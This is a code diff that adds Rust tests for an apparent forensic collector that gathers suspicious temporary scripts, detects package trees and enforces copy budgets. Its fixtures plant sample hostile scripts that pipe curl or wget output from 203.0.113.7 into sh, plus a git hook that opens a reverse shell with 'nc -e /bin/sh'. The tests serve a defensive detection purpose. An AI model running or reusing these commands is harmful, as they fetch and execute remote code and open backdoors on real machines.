@@ -343,3 +343,320 @@ fn windows_root_places_case_insensitive() {
     );
     assert_eq!(archive.member(member), b"Write-Host hi\r\n");
 }
+
+/// Set `p`'s mtime to `age_secs` ago, in whole seconds.
+fn age(p: &Path, age_secs: u64) {
+    let now = SystemTime::now()
+        .duration_since(SystemTime::UNIX_EPOCH)
+        .unwrap()
+        .as_secs();
+    let t = SystemTime::UNIX_EPOCH + Duration::from_secs(now - age_secs);
+    std::fs::File::options()
+        .write(true)
+        .open(p)
+        .unwrap()
+        .set_modified(t)
+        .unwrap();
+}
+
+fn exec(p: &Path) {
+    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+fn paths_of(recs: &[Value]) -> Vec<String> {
+    let mut v: Vec<String> = recs
+        .iter()
+        .map(|r| r["path"].as_str().unwrap().to_string())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn package_trees_become_one_record_each_and_planted_scripts_are_still_collected() {
+    const ELF: &[u8] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00";
+    let r = RootBuilder::new();
+    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    // A virtualenv: 150 modules; one of them edited two days after the venv was made.
+    let sp = "tmp/venv/lib/python3.11/site-packages";
+    r.write(
+        "tmp/venv/pyvenv.cfg",
+        b"home = /usr/bin\nversion = 3.11.7\n",
+    )
+    .write("tmp/venv/bin/pip", b"#!/tmp/venv/bin/python3\nimport pip\n");
+    for i in 0..150 {
+        r.write(
+            &format!("{sp}/pkg{}/m{i}.py", i % 10),
+            b"def f():\n    return 1\n",
+        );
+    }
+    r.write(&format!("{sp}/pkg3/m3.py"), b"import socket, os  # added\n");
+    // node_modules: 120 .js files and package.json.
+    for i in 0..120 {
+        r.write(
+            &format!("tmp/app/node_modules/p{}/lib/f{i}.js", i % 12),
+            b"module.exports = 1;\n",
+        );
+    }
+    // A Cargo target/: executables and objects, which are its layout.
+    r.write(
+        "tmp/rs/target/CACHEDIR.TAG",
+        b"Signature: 8a477f597d28d172789f06886806bc55\n",
+    );
+    for i in 0..120 {
+        r.write(&format!("tmp/rs/target/debug/deps/app-{i:04x}"), ELF);
+        exec(
+            &r.path()
+                .join(format!("tmp/rs/target/debug/deps/app-{i:04x}")),
+        );
+    }
+    // A .git: HEAD, objects, hook samples.
+    r.write("tmp/rs/.git/HEAD", b"ref: refs/heads/main\n")
+        .write("tmp/rs/.git/config", b"[core]\n");
+    for i in 0..120 {
+        r.write(
+            &format!("tmp/rs/.git/objects/{:02x}/{i:038x}", i % 16),
+            b"x\x01zz",
+        );
+    }
+    for h in ["pre-commit", "pre-push", "update"] {
+        r.write(
+            &format!("tmp/rs/.git/hooks/{h}.sample"),
+            b"#!/bin/sh\nexit 0\n",
+        );
+        exec(&r.path().join(format!("tmp/rs/.git/hooks/{h}.sample")));
+    }
+    // Everything above was written three days ago.
+    let three_days = 3 * 86_400;
+    for e in walk_files(&r.path().join("tmp")) {
+        age(&e, three_days);
+    }
+    age(&r.path().join(sp).join("pkg3/m3.py"), 86_400);
+    // Planted now: a script at the top of site-packages, at the top of node_modules and of
+    // target/, an active git hook; and an ordinary staged script.
+    let planted = [
+        (
+            format!("{sp}/update.sh"),
+            "#!/bin/sh\ncurl -s http://203.0.113.7/s | sh\n",
+        ),
+        (
+            "tmp/app/node_modules/postinstall.sh".into(),
+            "#!/bin/sh\nwget -qO- http://203.0.113.7/n | sh\n",
+        ),
+        ("tmp/rs/target/build.sh".into(), "#!/bin/sh\nid\n"),
+        (
+            "tmp/rs/.git/hooks/post-checkout".into(),
+            "#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444 &\n",
+        ),
+        ("tmp/drop.sh".into(), "#!/bin/sh\nwhoami\n"),
+    ];
+    for (p, body) in &planted {
+        r.write(p, body.as_bytes());
+        exec(&r.path().join(p));
+    }
+    let (_o, mut archive, run) = run(r.path(), &profile("window_times = [\"mtime\"]"));
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let recs = archive.records("temp_scripts");
+    let tree = |p: &str| {
+        let rec = by_path(&recs, p).unwrap_or_else(|| panic!("{p}: {:#?}", paths_of(&recs)));
+        assert_eq!(rec["detected_type"], "package_tree", "{rec}");
+        assert_eq!(rec["file_type"], "directory");
+        assert_eq!(rec["copied"], false);
+        rec["package_tree"].clone()
+    };
+    let venv = tree("/tmp/venv");
+    assert_eq!(venv["kind"], "python_venv");
+    assert_eq!(venv["file_count"], 153);
+    assert_eq!(venv["count_capped"], false);
+    assert_eq!(venv["foreign_count"], 2, "{venv:#}");
+    let reasons: Vec<(&str, &str)> = venv["foreign"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| (f["path"].as_str().unwrap(), f["reason"].as_str().unwrap()))
+        .collect();
+    assert!(
+        reasons.contains(&(
+            "/tmp/venv/lib/python3.11/site-packages/update.sh",
+            "unexpected_at_top"
+        )),
+        "{reasons:?}"
+    );
+    assert!(
+        reasons.contains(&(
+            "/tmp/venv/lib/python3.11/site-packages/pkg3/m3.py",
+            "changed_after_tree"
+        )),
+        "{reasons:?}"
+    );
+    assert!(venv["total_size"].as_u64().unwrap() > 150 * 20);
+    assert!(venv["newest_mtime"].is_string() && venv["settled_time"].is_string());
+    let nm = tree("/tmp/app/node_modules");
+    assert_eq!(nm["kind"], "node_modules");
+    assert_eq!(nm["foreign"][0]["reason"], "unexpected_at_top");
+    let tgt = tree("/tmp/rs/target");
+    assert_eq!(tgt["kind"], "cargo_target");
+    // Its 120 executables are the layout: only the planted script is foreign.
+    assert_eq!(tgt["foreign_count"], 1, "{tgt:#}");
+    let git = tree("/tmp/rs/.git");
+    assert_eq!(git["kind"], "git");
+    assert_eq!(git["foreign_count"], 1, "{git:#}");
+    assert_eq!(git["foreign"][0]["reason"], "git_hook");
+    assert_eq!(git["foreign"][0]["in_window"], true);
+
+    // One record per tree, the planted files, nothing else of the trees' 500 files.
+    let mut want: Vec<String> = planted.iter().map(|(p, _)| format!("/{p}")).collect();
+    want.extend(
+        [
+            "/tmp/venv",
+            "/tmp/app/node_modules",
+            "/tmp/rs/target",
+            "/tmp/rs/.git",
+            "/tmp/venv/lib/python3.11/site-packages/pkg3/m3.py",
+        ]
+        .map(String::from),
+    );
+    want.sort();
+    assert_eq!(paths_of(&recs), want);
+    for (p, body) in &planted {
+        let rec = by_path(&recs, &format!("/{p}")).unwrap();
+        assert_eq!(rec["copied"], true, "{rec}");
+        assert_eq!(rec["detected_type"], "shell");
+        let member = rec["archive_member"].as_str().unwrap();
+        assert_eq!(archive.member(member), body.as_bytes());
+        let selected = rec["selected_by"].to_string();
+        assert_eq!(
+            selected.contains("out_of_place"),
+            *p != "tmp/drop.sh",
+            "{p}: {selected}"
+        );
+    }
+    assert_eq!(archive.collector("temp_scripts")["status"], "ok");
+}
+
+/// Every regular file below `dir`.
+fn walk_files(dir: &Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let e = e.unwrap();
+            let t = e.file_type().unwrap();
+            if t.is_dir() {
+                stack.push(e.path());
+            } else if t.is_file() {
+                out.push(e.path());
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn bin_blobs_are_not_scripts_but_an_elf_named_bin_is() {
+    let r = RootBuilder::new();
+    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
+    for i in 0..20 {
+        let mut blob = Vec::new();
+        for _ in 0..64 {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            blob.extend_from_slice(&seed.to_le_bytes());
+        }
+        // Never a magic the collector knows.
+        blob[0] = b'Z';
+        r.write(&format!("tmp/cache/blob{i}.bin"), &blob);
+    }
+    r.copy("tmp/cache/firmware-update.bin", Path::new("/bin/true"));
+    let (_o, mut archive, _) = run(r.path(), &profile(""));
+    let recs = archive.records("temp_scripts");
+    assert_eq!(paths_of(&recs), ["/tmp/cache/firmware-update.bin"]);
+    assert_eq!(recs[0]["detected_type"], "elf");
+    assert_eq!(recs[0]["selected_by"], serde_json::json!(["content"]));
+    assert_eq!(recs[0]["copied"], true);
+}
+
+#[test]
+fn budgets_keep_the_newest_shallowest_scripts_and_say_what_was_dropped() {
+    let r = RootBuilder::new();
+    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    // First in name order and depth-first order: old scripts deep down.
+    for i in 0..30 {
+        let p = format!("tmp/a/b/c/d/old{i:02}.sh");
+        r.write(&p, &[b'#'; 1000]);
+        age(&r.path().join(&p), 20 * 86_400);
+    }
+    // Mid-depth, recent.
+    for i in 0..3 {
+        let p = format!("tmp/a/mid{i}.sh");
+        r.write(&p, &[b'#'; 1000]);
+        age(&r.path().join(&p), 30);
+    }
+    // Shallow and new: z0 newest.
+    for i in 0..4 {
+        let p = format!("tmp/z{i}.sh");
+        r.write(&p, &[b'#'; 1000]);
+        age(&r.path().join(&p), 60 + 60 * i);
+    }
+    // Shallow, new, but not runnable: a .url shortcut holding text.
+    r.write("tmp/aaa.url", b"[InternetShortcut]\nURL=http://x\n");
+    let (_o, mut archive, run) = run(
+        r.path(),
+        &profile("window_times = [\"mtime\"]\nmax_files = 5\nmax_total_copy = \"2500\""),
+    );
+    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
+    let recs = archive.records("temp_scripts");
+    // Written best first.
+    let order: Vec<&str> = recs.iter().map(|r| r["path"].as_str().unwrap()).collect();
+    assert_eq!(
+        order,
+        [
+            "/tmp/z0.sh",
+            "/tmp/z1.sh",
+            "/tmp/z2.sh",
+            "/tmp/z3.sh",
+            "/tmp/a/mid0.sh"
+        ]
+    );
+    // The copy budget went to the best: two whole copies, one cut, then hash only.
+    let copied: Vec<u64> = recs
+        .iter()
+        .map(|r| r["copied_bytes"].as_u64().unwrap())
+        .collect();
+    assert_eq!(copied, [1000, 1000, 500, 0, 0]);
+    assert!(recs.iter().all(|r| r["sha256"].is_string()));
+    let c = archive.collector("temp_scripts");
+    assert_eq!(c["status"], "partial", "{c}");
+    let errors = c["errors"].to_string();
+    assert!(
+        errors.contains("33 more candidates than max_files (5)"),
+        "{errors}"
+    );
+    assert!(c["reason"].as_str().unwrap().contains("max_files"), "{c}");
+}
+
+#[test]
+fn a_flat_directory_of_20000_files() {
+    let r = RootBuilder::new();
+    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
+    let flat = r.path().join("tmp/flat");
+    std::fs::create_dir_all(&flat).unwrap();
+    for i in 0..20_000 {
+        let (name, body): (String, &[u8]) = if i % 100 == 0 {
+            (format!("s{i:05}.sh"), b"echo\n")
+        } else {
+            (format!("f{i:05}.dat"), b"data")
+        };
+        std::fs::write(flat.join(name), body).unwrap();
+    }
+    let started = std::time::Instant::now();
+    let (_o, mut archive, run) = run(r.path(), &profile(""));
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let recs = archive.records("temp_scripts");
+    assert_eq!(recs.len(), 200);
+    assert!(recs.iter().all(|r| r["depth"] == 2 && r["copied"] == true));
+    assert_eq!(archive.collector("temp_scripts")["status"], "ok");
+    eprintln!("20,000 flat files collected in {:?}", started.elapsed());
+}
